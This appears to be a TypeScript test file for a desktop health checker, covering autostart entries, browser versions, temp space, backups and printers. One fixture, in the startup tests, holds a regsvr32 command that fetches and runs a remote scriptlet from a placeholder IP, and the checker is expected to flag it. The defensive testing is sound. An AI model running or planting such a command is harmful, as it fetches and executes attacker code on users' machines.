import type { Recording } from '@alongside/testkit';
import { onLinux, onMac, onWindows, verdictTable } from '../../../../test/fixtures/verdict-table.ts';
import { dpkgFormat } from '../parse/dpkg.ts';
import { appBackup } from './app-backup.ts';
import { appBrowser } from './app-browser.ts';
import { appStartup } from './app-startup.ts';
import { appTemp } from './app-temp.ts';
import { prnQueue } from './prn-queue.ts';
import { prnState } from './prn-state.ts';

const now = new Date(2026, 10, 29, 12).getTime();

const USER = '/home/robin/.config/autostart';
const autostart = (system: Record<string, string>, own: Record<string, string> = {}) =>
  onLinux({
    folders: { '/etc/xdg/autostart': Object.keys(system), [USER]: Object.keys(own) },
    files: Object.fromEntries([
      ...Object.entries(system).map(([name, text]) => [`/etc/xdg/autostart/${name}`, text]),
      ...Object.entries(own).map(([name, text]) => [`${USER}/${name}`, text]),
    ]),
  });
const many = (count: number) =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [`item-${index}.desktop`, 'Exec=x']));
const desktop = Object.fromEntries(
  Object.keys(many(30)).map((name) => [
    `org.gnome.SettingsDaemon.${name}`,
    '[Desktop Entry]\nExec=/usr/libexec/gsd\nOnlyShowIn=GNOME;\nNoDisplay=true\n',
  ]),
);
const commands = (...rows: [string, string][]) => onWindows(JSON.stringify(rows.map(([Name, Command]) => ({ Name, Command }))));
const EVIL = 'regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll';
verdictTable(appStartup, [
  ['none', onLinux(), 'pass'],
  ['fifteen', autostart(many(15)), 'pass'],
  ['sixteen', autostart(many(16)), 'warn'],
  ['sixteen, one of them taken out', autostart(many(16), { 'item-3.desktop': '[Desktop Entry]\nHidden=true\n' }), 'pass'],
  ['parts of the desktop beside fifteen', autostart({ ...desktop, ...many(15) }), 'pass'],
  ['one that hides and fetches programs', autostart({ 'x.desktop': `Exec=${EVIL}\nNoDisplay=true\n` }), 'fail'],
  ['other files', autostart({ ...many(15), 'README.txt': 'x' }), 'pass'],
  ['Windows', commands(['OneDrive', '"C:\\OneDrive.exe" /background']), 'pass'],
  ['Windows, one that fetches programs', commands(['OneDrive', 'x'], ['Updater', EVIL]), 'fail'],
  ['Windows, garbled', onWindows('<Objs Version="1.1"/>'), 'unknown/parse'],
  ['macOS', { system: 'macos', home: '/Users/robin', folders: { '/Library/LaunchAgents': ['com.vendor.plist'] } }, 'pass'],
]);

const QUERY = `dpkg-query -W -f ${dpkgFormat('Package', 'Version', 'db:Status-Status')} chromium google-chrome-stable microsoft-edge-stable firefox firefox-esr`;
const dpkg = (stdout: string, rest: Recording['files'] = {}) =>
  onLinux({ now, folders: { '/usr/bin': ['dpkg-query'] }, commands: { [QUERY]: { stdout, exitCode: 1 } }, files: rest });
const RPM =
  'rpm -q --qf %{NAME}\\t%{VERSION}\\tinstalled\\n chromium google-chrome-stable microsoft-edge-stable firefox firefox-esr';
const rpm = (stdout: string) => onLinux({ now, commands: { [RPM]: { stdout, exitCode: 4 } } });
const app = (version: string): Recording => ({
  system: 'macos',
  now,
  folders: { '/Applications': ['Firefox.app', 'Safari.app'] },
  commands: { 'defaults read /Applications/Firefox.app/Contents/Info CFBundleShortVersionString': `${version}\n` },
});
verdictTable(appBrowser, [
  ['none', dpkg(''), 'info/none'],
  ['newer than the table', dpkg('chromium\t156.0.8078.108-1~deb12u1\tinstalled\n'), 'pass'],
  ['one behind', dpkg('google-chrome-stable\t150.0.1.2-1\tinstalled\n'), 'pass'],
  ['two behind', dpkg('chromium\t156.0.1-1\tinstalled\nfirefox\t1:152.0.6-1\tinstalled\n'), 'warn'],
  ['a long-term one that is mended', dpkg('firefox-esr\t153.1.0esr-1~deb12u1\tinstalled\n'), 'pass'],
  ['a long-term one that is over', dpkg('firefox-esr\t140.14.0esr-1~deb12u1\tinstalled\n'), 'warn'],
  ['removed', dpkg('firefox\t120.0-1\tconfig-files\n'), 'info/none'],
  [
    'a stub for the snap',
    dpkg('firefox\t1:1snap1-0ubuntu5\tinstalled\n', {
      '/snap/firefox/current/meta/snap.yaml': "name: firefox\nversion: '154.0-1'\n",
    }),
    'pass',
  ],
  ['garbled version', dpkg('firefox\tlatest\tinstalled\n'), 'unknown/parse'],
  ['rpm', rpm('package chromium is not installed\nfirefox\t150.0\tinstalled\n'), 'warn'],
  ['Windows', onWindows('[{"Name":"chrome.exe","Version":"151.0.1.2"},{"Name":"msedge.exe","Version":"151.0.3"}]'), 'pass'],
  ['Windows, old', onWindows('[{"Name":"firefox.exe","Version":"128.0"}]', { now }), 'warn'],
  ['Windows, none', onWindows('[]'), 'info/none'],
  ['Windows, garbled', onWindows('[{"Name":"firefox.exe","Version":null}]'), 'unknown/parse'],
  ['macOS', app('154.0'), 'pass'],
  ['macOS, a long-term one', app('115.38.0'), 'pass'],
  ['macOS, garbled', app('CFBundle'), 'unknown/parse'],
]);

const TRASH = 'du -skx /home/robin/.local/share/Trash';
const du = (temporary: string, trash: string | Partial<{ exitCode: number; stdout: string; stderr: string }>) =>
  onLinux({ commands: { 'du -skx /tmp': { stdout: temporary, exitCode: 1 }, [TRASH]: trash } });
verdictTable(appTemp, [
  ['little', du('1024\t/tmp\n', '2048\t/home/robin/.local/share/Trash\n'), 'pass'],
  ['much together', du('3000000\t/tmp\n', '3000000\t/home\n'), 'warn'],
  ['no trash yet', du('1024\t/tmp\n', { exitCode: 1, stderr: 'du: cannot access: No such file or directory' }), 'pass'],
  ['denied', du('1024\t/tmp\n', { exitCode: 1, stderr: 'du: Operation not permitted' }), 'unknown/denied'],
  ['garbled', du('much', ''), 'unknown/parse'],
  ['Windows', onWindows('[{"Temporary":6000000000,"Trash":0}]'), 'warn'],
  ['Windows, garbled', onWindows('[{"Temporary":-1,"Trash":0}]'), 'unknown/parse'],
  ['macOS, garbled', onMac('getconf DARWIN_USER_TEMP_DIR', 'unknown'), 'unknown/parse'],
]);

const tmutil = (stdout: string, exitCode = 0, stderr = ''): Recording => ({
  system: 'macos',
  now,
  commands: { 'tmutil latestbackup': { stdout, exitCode, stderr } },
});
verdictTable(appBackup, [
  ['Linux', onLinux(), 'unknown/unsupported'],
  ['Windows, today', onWindows('[{"Days":0.2}]'), 'pass'],
  ['Windows, long ago', onWindows('[{"Days":40}]'), 'warn'],
  ['Windows, never', onWindows('[{"Days":null}]'), 'fail'],
  ['Windows, garbled', onWindows('[]'), 'unknown/parse'],
  ['macOS, yesterday', tmutil('/Volumes/Backup/2026-11-28-101500.backup/2026-11-28-101500.backup\n'), 'pass'],
  ['macOS, long ago', tmutil('/Volumes/Backup/2026-10-01-101500.backup\n'), 'warn'],
  ['macOS, never', tmutil('', 1, 'No machine directory found for host.\n'), 'fail'],
  ['macOS, denied', tmutil('', 1, 'tmutil: latestbackup requires Full Disk Access privileges.\n'), 'unknown/denied'],
  ['macOS, garbled', tmutil('soon\n'), 'unknown/parse'],
]);

const cups = (command: string, stdout: string, rest: { exitCode?: number; stderr?: string } = {}) =>
  onLinux({ now, folders: { '/usr/bin': ['lpstat'] }, commands: { [command]: { stdout, ...rest } } });
const IDLE = 'printer Office is idle.  enabled since Sat Nov 28 09:00:00 2026\n';
const STOPPED = 'printer Hall disabled since Sat Nov 28 10:00:00 2026 -\n\tThe printer is not responding.\n';
const printers = (text: string, standard: string) => cups('lpstat -p -d', `${text}system default destination: ${standard}\n`);
const printer = (rest: object) =>
  onWindows(
    JSON.stringify([{ Name: 'Office', Default: true, WorkOffline: false, PrinterStatus: 3, DetectedErrorState: 0, ...rest }]),
  );
verdictTable(prnState, [
  ['no printing system', onLinux(), 'info/none'],
  ['no printer', cups('lpstat -p -d', '', { exitCode: 1, stderr: 'lpstat: No destinations added.\n' }), 'info/none'],
  ['no printer, said otherwise', cups('lpstat -p -d', 'no system default destination\n'), 'info/none'],
  ['ready', printers(IDLE, 'Office'), 'pass'],
  ['printing', printers('printer Office now printing Office-3.  enabled since Sat Nov 28 09:00:00 2026\n', 'Office'), 'pass'],
  ['another is stopped', printers(IDLE + STOPPED, 'Office'), 'warn'],
  ['the usual one is stopped', printers(IDLE + STOPPED, 'Hall'), 'fail'],
  ['no server', cups('lpstat -p -d', '', { exitCode: 1, stderr: 'lpstat: Bad file descriptor' }), 'unknown/failed'],
  ['garbled', cups('lpstat -p -d', 'printer Office\n'), 'unknown/parse'],
  ['Windows, ready', printer({}), 'pass'],
  ['Windows, low on paper', printer({ DetectedErrorState: 3 }), 'pass'],
  ['Windows, out of paper', printer({ DetectedErrorState: 4 }), 'fail'],
  ['Windows, another offline', printer({ Default: false, WorkOffline: true }), 'warn'],
  ['Windows, none', onWindows('[]'), 'info/none'],
  ['Windows, garbled', printer({ PrinterStatus: 'idle' }), 'unknown/parse'],
  ['macOS', onMac('lpstat -p -d', `${IDLE}system default destination: Office\n`), 'pass'],
]);

const job = (at: string) => cups('lpstat -o', `Office-12              robin            1024   ${at}\n`);
verdictTable(prnQueue, [
  ['no printing system', onLinux(), 'info/none'],
  ['nothing waits', cups('lpstat -o', ''), 'pass'],
  ['just sent', job('Sun Nov 29 11:50:00 2026'), 'pass'],
  ['twenty minutes', job('Sun Nov 29 11:40:00 2026'), 'warn'],
  ['two hours', job('Sun Nov 29 10:00:00 2026'), 'fail'],
  ['garbled', job('lately'), 'unknown/parse'],
  ['Windows', onWindows('[{"Minutes":20.5},{"Minutes":1}]'), 'warn'],
  ['Windows, garbled', onWindows('[{"Minutes":"20"}]'), 'unknown/parse'],
]);
